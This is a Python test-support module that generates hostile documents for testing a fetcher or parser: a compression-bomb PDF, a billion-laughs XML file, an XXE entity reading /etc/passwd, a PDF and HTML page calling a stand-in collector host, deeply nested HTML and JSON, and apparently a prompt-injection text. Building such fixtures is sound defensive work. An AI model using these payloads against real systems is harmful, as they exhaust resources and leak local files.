"""Documents made to hurt whoever reads them, each small on the wire.

Invented here; every one of them must end in a packet or a rejection, and nobody else may
hear of it.
"""

import zlib
from collections.abc import Callable
from functools import cache

from tests.support.origins.documents import INJECTION, STORY

CALLER = "https://collect.example.net/heard"  # nobody may ask for this


def _flate_bomb() -> bytes:
    """A page whose content is 256 MB of blanks."""
    packer = zlib.compressobj(9)
    block = b" " * 2**20
    stream = b"".join(packer.compress(block) for _ in range(256)) + packer.flush()
    return _pdf(
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R>>",
        b"<</Filter/FlateDecode/Length %d>>stream\n%b\nendstream" % (len(stream), stream),
    )


def _page_cycle() -> bytes:
    return _pdf(b"<</Type/Pages/Count 9999/Kids[2 0 R 3 0 R]>>")


def _calling_pdf() -> bytes:
    """A file that asks its reader to run a script, to open a link and to send a form."""
    return _pdf(
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/AA<</O<</S/URI/URI(%b)>>>>>>"
        % CALLER.encode(),
        catalog=b"/OpenAction<</S/JavaScript/JS(app.launchURL('%b'))>>" % CALLER.encode(),
    )


def _pdf(*objects: bytes, catalog: bytes = b"") -> bytes:
    listed = [
        b"<</Type/Catalog/Pages 2 0 R%b>>" % catalog,
        b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
        *objects,
    ]
    data = b"%PDF-1.7\n"
    for number, item in enumerate(listed, 1):
        data += b"%d 0 obj\n%b\nendobj\n" % (number, item)
    return data + b"trailer<</Root 1 0 R/Size %d>>\n%%%%EOF\n" % (len(listed) + 1)


def _deep_page() -> bytes:
    return b"<!doctype html><title>deep</title>" + b"<div><b>" * 60_000 + STORY.encode()


def _wide_page() -> bytes:
    return b"<!doctype html><title>wide</title><p " + b"a='x' " * 60_000 + b">" + STORY.encode()


def _wild_bytes() -> bytes:
    """Text in no encoding at all."""
    return b"<!doctype html><html><title>\xff\xfe</title><p>" + bytes(range(128, 256)) * 64


def _calling_page() -> bytes:
    caller = CALLER.encode()
    return (
        b"<!doctype html><html><head><title>calls</title>"
        b"<base href='%b'><meta http-equiv=refresh content='0;url=%b'>"
        b"<link rel=stylesheet href='%b'><script src='%b'></script></head>"
        b"<body><img src='%b'><iframe src='%b'></iframe><object data='%b'></object><p>%b</p>"
        b"<p>%b</p></body></html>"
    ) % (*[caller] * 7, STORY.encode(), INJECTION.encode())


def _laughing_xml() -> bytes:
    entities = b"".join(
        b'<!ENTITY l%d "%b">' % (number, b"&l%d;" % (number - 1) * 10) for number in range(1, 12)
    )
    return b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY l0 "ha">%b]><a>&l11;</a>' % entities


def _asking_xml() -> bytes:
    return (
        b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY f SYSTEM "file:///etc/passwd">'
        b'<!ENTITY u SYSTEM "%b">]><a>&f;&u;</a>' % CALLER.encode()
    )


def _deep_json() -> bytes:
    return b"[" * 200_000 + b"]" * 200_000


MONSTERS: dict[str, tuple[str, Callable[[], bytes]]] = {
    "/bomb.pdf": ("application/pdf", _flate_bomb),
    "/cycle.pdf": ("application/pdf", _page_cycle),
    "/calls.pdf": ("application/pdf", _calling_pdf),
    "/cut.pdf": ("application/pdf", lambda: b"%PDF-1.7\n1 0 obj\n<</Type/Cat"),
    "/deep.html": ("text/html", _deep_page),
    "/wide.html": ("text/html", _wide_page),
    "/calls.html": ("text/html; charset=utf-8", _calling_page),
    "/bytes.html": ("text/html", _wild_bytes),
    "/laughs.xml": ("application/xml", _laughing_xml),
    "/asks.xml": ("application/xml", _asking_xml),
    "/deep.json": ("application/json", _deep_json),
}


@cache
def monster(path: str) -> tuple[str, bytes] | None:
    """Return media type and bytes of the document at this path."""
    if path not in MONSTERS:
        return None
    kind, make = MONSTERS[path]
    return kind, make()
